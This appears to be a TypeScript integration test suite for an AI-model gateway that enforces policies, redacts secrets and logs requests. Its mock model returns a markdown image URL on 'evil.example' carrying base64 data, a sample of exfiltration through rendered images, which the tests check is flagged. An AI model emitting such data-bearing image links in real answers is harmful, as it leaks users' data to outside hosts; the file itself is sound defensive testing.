import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { calls, type ModelServer, type Seen, says } from '../../libs/protocols/testing/model-server.js';
import { type Installation, until } from '../testing/installation.js';
import { apiKey, type ModelApiName, ModelHouse, modelApis } from '../testing/model-house.js';

/** A key as a detector knows it, and as nobody has it. */
const canary = `AKIA${'CANARYCANARYCANA'}`;

/** What is asked decides what is said: each test has its own words. */
const plan = ({ body }: Seen) => {
  if (body.includes('draw it')) return says('![chart](https://evil.example/c.png?d=c2VjcmV0)');
  return body.includes('run a command') ? calls('Bash', { command: 'psql -c "select 1"' }) : says('Three patients.');
};

const policy = `
@id("connect") permit(principal, action == Sallyport::Action::"session.connect", resource);
@id("ask") permit(principal, action == Sallyport::Action::"model.request", resource);
@id("call") permit(principal, action == Sallyport::Action::"model.tool_call", resource);
@id("no-payroll") @message("salaries are not for models")
forbid(principal, action == Sallyport::Action::"model.request", resource) when { context.prompt like "*salary*" };
@id("no-shell") @message("no command runs here")
forbid(principal, action == Sallyport::Action::"model.tool_call", resource) when { context.command like "*psql*" && context.ai_session };`;

let house: ModelHouse;
let gate: Installation;
let model: ModelServer;

beforeAll(async () => {
  house = await ModelHouse.start(plan, policy);
  ({ gate, model } = house);
}, 240_000);
afterAll(() => house?.stop());

const ask = (connection: ModelApiName, prompt: string, session?: string) =>
  house.ask(connection, prompt, session === undefined ? {} : { session });

/** The operations of the one session that `asked` opens on a connection, once it has `count`. */
async function recordedOf<T>(connection: string, count: number, asked: () => Promise<T>) {
  const before = new Set((await sessionsOf(connection)).map(({ id }) => id));
  const answer = await asked();
  const operations = await until('the operations are on record', async () => {
    const session = (await sessionsOf(connection)).find(({ id }) => !before.has(id));
    const found = session === undefined ? [] : await gate.operations(session.id);
    return found.length >= count && found.every(({ outcome }) => outcome !== null) ? found : false;
  });
  return { answer, operations };
}

const sessionsOf = async (name: string) => (await gate.sessions()).filter(({ connection }) => connection === name);

describe.each(modelApis)('a model by the API of %s', (api) => {
  test('answers a program with the vendor’s SDK by one command, and who asked what is on record', async () => {
    const { answer, operations } = await recordedOf(api, 2, () => ask(api, 'How many patients are there?'));
    expect(JSON.stringify(answer)).toContain('Three patients.');
    const request = operations.find(({ action }) => action === 'model.request');
    expect(request).toMatchObject({ outcome: { status: 'done' } });
    expect(request!.text).toContain('human: How many patients are there?');
    expect(model.seen.at(-1)!.body).toContain('How many patients are there?');
  });

  test('whose answer shows an image that carries data has that on record, and in the trace of who asked', async () => {
    const { answer, operations } = await recordedOf(api, 2, () => ask(api, 'Please draw it.'));
    expect(JSON.stringify(answer)).toContain('https://evil.example/c.png');
    const request = operations.find(({ action }) => action === 'model.request')!;
    expect(request.outcome).toMatchObject({ status: 'done', flags: ['remote-image'] });
    const trace = await house.sallyport('ada', ['trace', 'operation', request['id'] as string]);
    expect(trace).toContain('· done FLAGGED remote-image');
  });

  test('is not asked what the policy forbids, and the program is told why', async () => {
    const before = model.seen.length;
    const { status, message } = await ask(api, 'What is the salary of the director?');
    expect(status).toBe(403);
    expect(message).toContain('salaries are not for models');
    expect(model.seen).toHaveLength(before);
  });

  test('does not see a secret that stands in the prompt', async () => {
    await ask(api, `Why does ${canary} not work?`);
    expect(model.seen.at(-1)!.body).toContain('Why does');
    expect(model.seen.at(-1)!.body).not.toContain(canary);
  });

  test('leaves neither the API’s key nor the secret in any store or log', async () => {
    const seen = await gate.everythingSeen();
    expect(seen).not.toContain(apiKey);
    expect(seen).not.toContain(canary);
  });
});

test('a tool call in a conversation of Claude Code is refused by a policy on the command, and no tool runs', async () => {
  const { answer } = await ask('anthropic', 'Please run a command.', 'session-of-the-test');
  expect(answer!.map(({ type }) => type)).toEqual(['text', 'text']);
  expect(answer![1]!.text).toContain('no command runs here');
  const { items } = await gate.api<{ items: { client: string }[] }>('ada', 'GET', '/v1/ai-sessions');
  expect(items.map(({ client }) => client)).toContain('claude-code');
});

test('what is not in any conversation may be another matter: the same call is on record and passed on', async () => {
  const { answer: told, operations } = await recordedOf('anthropic', 3, () =>
    ask('anthropic', 'Please run a command.'),
  );
  expect(told.answer!.map(({ type }) => type)).toEqual(['text', 'tool_use']);
  expect(operations.find(({ action }) => action === 'model.tool_call')!.text).toBe('Bash: psql -c "select 1"');
});
